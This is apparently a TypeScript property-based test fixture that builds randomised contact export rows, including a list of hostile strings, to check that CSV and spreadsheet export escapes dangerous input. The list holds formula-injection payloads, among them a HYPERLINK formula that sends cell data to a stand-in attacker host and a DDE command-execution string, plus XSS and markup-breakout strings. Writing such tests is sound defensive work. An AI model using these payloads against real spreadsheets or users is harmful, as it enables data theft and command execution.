import fc from 'fast-check'
import type { Finding } from '../../lib/domain/finding'
import type { Person } from '../../lib/domain/person'
import { type ExportRow, exportRow } from '../../lib/export/export-row'

/** What somebody hostile, or only unlucky, may be called. */
export const hostileStrings = [
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '+1+1',
  '-1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  'a\r\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '＝1+1',
  '−1+1',
  'x;=1+1',
  'x,=1+1',
  'x\t=1+1',
  '","=1+1',
  '"=1+1',
  "'=1+1",
  '%0A=1+1',
  '=1+1";"=2+2',
  '<script>alert(1)</script>',
  ']]><a/>',
  '_x003D_1+1',
  'BEGIN:VCARD\r\nEND:VCARD',
  'a\\,b;c\\nd',
  '[x](javascript:alert(1))',
  '| a | b |',
]

const words = fc.oneof(
  { weight: 4, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 3, arbitrary: fc.constantFrom(...hostileStrings) },
  {
    weight: 2,
    arbitrary: fc.constantFrom('Zoë Ångström', '李小龍', 'محمد', 'می‌خواهم', '👩‍💻 Ada', 'Nora; Vance, "N"'),
  },
)

export const emptyPerson: Person = {
  id: '00000000-0000-4000-8000-000000000000',
  keys: [],
  fullName: 'Nora Vance',
  sources: {},
  status: 'new',
  tags: [],
  createdAt: 0,
  updatedAt: 0,
}

const finding = (field: Finding['field'], value: string, status: Finding['status'], at: number): Finding => ({
  id: `${field}-${value}`,
  personId: emptyPerson.id,
  field,
  value,
  status,
  receipt: { vendor: 'leadsonar', operation: 'find', at, provider: 'Prospeo', jobId: 'job-secret' },
})

export const anyRow: fc.Arbitrary<ExportRow> = fc
  .record({
    id: fc.uuid(),
    fullName: words,
    firstName: words,
    lastName: words,
    title: words,
    company: words,
    domain: fc.domain(),
    location: words,
    note: words,
    tags: fc.array(words, { maxLength: 3 }),
    email: fc.oneof(fc.emailAddress(), words),
    phone: fc.oneof(fc.constantFrom('+31 30 123 4567', '0049 (30) 99-88', '-1', '=1'), words),
    status: fc.constantFrom<Finding['status']>('verified', 'catch-all', 'unverified', 'guess'),
    at: fc.date({ min: new Date(0), max: new Date(4e12), noInvalidDate: true }),
  })
  .map(({ email, phone, status, at, ...fields }) =>
    exportRow({ ...emptyPerson, ...fields }, [
      finding('email', email, status, at.getTime()),
      finding('phone', phone, status, at.getTime()),
    ]),
  )
